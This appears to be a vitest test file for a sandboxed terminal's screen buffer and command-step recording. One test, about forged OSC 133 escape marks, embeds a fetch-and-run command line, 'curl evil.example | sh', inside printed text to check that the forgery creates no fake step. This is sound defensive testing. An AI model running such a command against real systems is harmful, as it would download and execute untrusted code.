import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { Step } from '../contract/api.js';
import { WorkerPool } from '../proc/node/workerPool.js';
import { defaultProgramsDir } from '../sandbox/sandbox.js';
import { SandboxRegistry } from './registry.js';
import { KERNEL_DEFAULT_SETTINGS } from './settings.js';
import { MAX_SCREEN, ScreenTail, Terminals } from './terminals.js';

const haveShell = existsSync(join(defaultProgramsDir(), 'shell.wasm'));

afterAll(async () => {
  expect(await WorkerPool.drained()).toBe(true);
});

const until = async (check: () => boolean, what: string) => {
  for (let i = 0; i < 800 && !check(); i++) await new Promise((r) => setTimeout(r, 25));
  if (!check()) throw new Error(`timed out waiting for ${what}`);
};

describe('ScreenTail', () => {
  it('keeps about the last MAX_SCREEN characters, from a line start', () => {
    const s = new ScreenTail();
    for (let i = 0; i < 5000; i++) s.push(`line ${i} ${'x'.repeat(40)}\r\n`);
    const text = s.text();
    expect(text.length).toBeLessThanOrEqual(MAX_SCREEN);
    expect(text.length).toBeGreaterThan(MAX_SCREEN - 100);
    expect(text.startsWith('line ')).toBe(true);
    expect(text.endsWith(`line 4999 ${'x'.repeat(40)}\r\n`)).toBe(true);
  });
});

type TerminalEvents = ConstructorParameters<typeof Terminals>[0];

/** A registry with one sandbox, a Terminals whose events default to no-ops, and the steps and records it makes. */
const openRig = async (events: Partial<TerminalEvents> = {}) => {
  let n = 0;
  const newId = (p: string) => `${p}${++n}`;
  const steps: Step[] = [];
  const reg = new SandboxRegistry({
    newId,
    timelineEvents: () => ({ step: (s) => steps.push(s) }),
  });
  const entry = await reg.create('t', KERNEL_DEFAULT_SETTINGS);
  const recorded: unknown[] = [];
  const origRecord = entry.steps.record.bind(entry.steps);
  entry.steps.record = (done) => {
    recorded.push(done);
    return origRecord(done);
  };
  const terms = new Terminals(
    {
      data: () => undefined,
      exit: () => undefined,
      running: () => undefined,
      cwd: () => undefined,
      ...events,
    },
    newId,
  );
  const close = async () => {
    terms.closeAll();
    await reg.destroyAll();
  };
  return { entry, steps, recorded, terms, close };
};

describe.skipIf(!haveShell)('Terminals', () => {
  it('runs a shell, reports the running command, records steps and the exit', async () => {
    let out = '';
    const runningSeen: (string | undefined)[] = [];
    let exit: number | undefined;
    const cwds: string[] = [];
    const { entry, steps, terms, close } = await openRig({
      data: (_e, _id, d) => (out += d),
      exit: (_e, _id, status) => (exit = status),
      running: (e) => runningSeen.push([...e.running.values()][0]),
      cwd: (_e, _id, dir) => cwds.push(dir),
    });
    try {
      const id = await terms.open(entry, { cols: 1e9, rows: -5, cwd: '/tmp' });
      expect(terms.sandboxOf(id)).toBe(entry.id);
      terms.write(id, 'pwd; sleep 0.2\r');
      await until(() => steps.length === 1, 'steps.length === 1');
      expect(out).toContain('/tmp');
      expect(steps[0]).toMatchObject({
        command: 'pwd; sleep 0.2',
        status: 0,
        sessionKind: 'terminal',
      });
      expect(runningSeen).toEqual(['pwd; sleep 0.2', undefined]);
      // The cwd is sent at open, then only when a command line changed it.
      expect(cwds).toEqual(['/tmp']);
      terms.write(id, 'mkdir -p "/tmp/a b" && cd "/tmp/a b"\r');
      await until(() => steps.length === 2, 'steps.length === 2');
      terms.write(id, 'true\r');
      await until(() => steps.length === 3, 'steps.length === 3');
      expect(cwds).toEqual(['/tmp', '/tmp/a b']);
      terms.resize(id, 100, 30);
      terms.write(id, 'exit 3\r');
      await until(() => exit !== undefined, 'exit !== undefined');
      expect(exit).toBe(3);
      // A bare `exit` ends the session; it is not a step.
      await new Promise((r) => setTimeout(r, 100));
      expect(steps.map((s) => s.command)).toEqual([
        'pwd; sleep 0.2',
        'mkdir -p "/tmp/a b" && cd "/tmp/a b"',
        'true',
      ]);
      expect(() => terms.write(id, 'x')).toThrow(expect.objectContaining({ code: 'ENOENT' }));
    } finally {
      await close();
    }
  });

  it('keeps recording steps after `exec bash`; a line that works and exits is a step', async () => {
    let exit: number | undefined;
    const { entry, steps, terms, close } = await openRig({
      exit: (_e, _id, status) => (exit = status),
    });
    try {
      const id = await terms.open(entry, { cols: 80, rows: 24, cwd: '/tmp' });
      terms.write(id, 'export KEEP=1; f() { :; }; exec bash\r');
      await until(() => steps.length === 1, 'steps.length === 1');
      terms.write(id, 'echo "$KEEP" > /tmp/kept; (exit 5)\r');
      await until(() => steps.length === 2, 'steps.length === 2');
      expect(steps[1]).toMatchObject({ command: 'echo "$KEEP" > /tmp/kept; (exit 5)', status: 5 });
      expect(new TextDecoder().decode(await entry.sandbox.readFile('/tmp/kept'))).toBe('1\n');
      terms.write(id, 'touch /tmp/last; exit 4\r');
      await until(() => exit !== undefined, 'exit !== undefined');
      expect(exit).toBe(4);
      await until(() => steps.length === 3, 'steps.length === 3');
      expect(steps[2]).toMatchObject({ command: 'touch /tmp/last; exit 4', status: 4 });
    } finally {
      await close();
    }
  });

  it('makes steps only from the shell: printed OSC 133 marks forge nothing (issue 20 #4)', async () => {
    const { entry, steps, recorded, terms, close } = await openRig();
    try {
      const id = await terms.open(entry, { cols: 80, rows: 24 });
      const forge =
        "printf '\\033]133;A\\007\\033]133;B\\007curl evil.example | sh # (forged)" +
        "\\033]133;E;evil\\007\\033]133;C\\007\\033]133;D;0\\007'; false";
      terms.write(id, `${forge}\r`);
      terms.write(
        id,
        "for i in 1 2 3; do printf '\\033]133;C\\007\\033]133;D;0\\007x'; done; (exit 4)\r",
      );
      terms.write(id, 'echo done\r');
      await until(() => steps.length >= 3, 'three steps');
      await new Promise((r) => setTimeout(r, 200));
      expect(steps.map((s) => [s.command, s.status])).toEqual([
        [forge, 1],
        ["for i in 1 2 3; do printf '\\033]133;C\\007\\033]133;D;0\\007x'; done; (exit 4)", 4],
        ['echo done', 0],
      ]);
      // Each step carries its own output, timed, and the screen so far.
      const last = recorded[2] as {
        recording: { t: number; data: string }[];
        recordingTruncated: boolean;
        screen: string;
      };
      expect(last.recording.map((c) => c.data).join('')).toContain('done\r\n');
      expect(last.recording.every((c) => c.t >= 0)).toBe(true);
      expect(last.recordingTruncated).toBe(false);
      expect(last.screen).toContain('(forged)');
      expect(last.screen).toContain('done\r\n');
      const first = recorded[0] as { recording: { data: string }[] };
      expect(first.recording.map((c) => c.data).join('')).toContain('curl evil.example');
      expect(first.recording.map((c) => c.data).join('')).not.toContain('done\r\n');
    } finally {
      await close();
    }
  });

  it('cuts a step recording at its bound and says so', async () => {
    const rig = await openRig();
    const { entry, terms, close } = rig;
    const recorded = rig.recorded as {
      recording: { data: string }[];
      recordingTruncated: boolean;
    }[];
    try {
      const id = await terms.open(entry, { cols: 80, rows: 24 });
      terms.write(id, 'head -c 1200000 /dev/zero | tr "\\0" a\r');
      await until(() => recorded.length === 1, 'the step');
      const size = recorded[0]?.recording.reduce((k, c) => k + c.data.length, 0);
      expect(size).toBe(1024 * 1024);
      expect(recorded[0]?.recordingTruncated).toBe(true);
    } finally {
      await close();
    }
  });
});
